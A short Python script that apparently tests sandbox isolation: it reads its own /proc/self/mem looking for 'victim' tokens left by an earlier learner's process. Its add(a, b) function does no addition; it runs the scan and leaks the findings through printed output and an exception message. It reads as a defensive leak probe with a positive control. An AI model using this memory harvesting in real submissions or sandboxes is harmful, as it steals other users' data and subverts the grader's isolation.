"""Search this process's whole memory for an earlier learner's source (which would be there
if the zygote had held it before forking us)."""
import re

PREFIX = b"victim" + b"-token-"
# Positive control: a token that really is in our memory, so the scan is known to work.
CONTROL = PREFIX + b"c" * 32


def scan():
    found = set()
    with open("/proc/self/maps") as fh:
        maps = fh.read().splitlines()
    with open("/proc/self/mem", "rb", buffering=0) as mem:
        for line in maps:
            fields = line.split()
            lo, hi = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or hi - lo > (512 << 20) or (len(fields) > 5 and fields[5].startswith("/")):
                continue
            try:
                mem.seek(lo)
                data = mem.read(hi - lo)
            except OSError:
                continue
            for m in re.finditer(re.escape(PREFIX) + rb"[0-9a-f]{32}", data):
                found.add(m.group(0).decode())
    return sorted(found)


def add(a, b):
    found = scan()
    print(found)
    raise LookupError(repr(found))
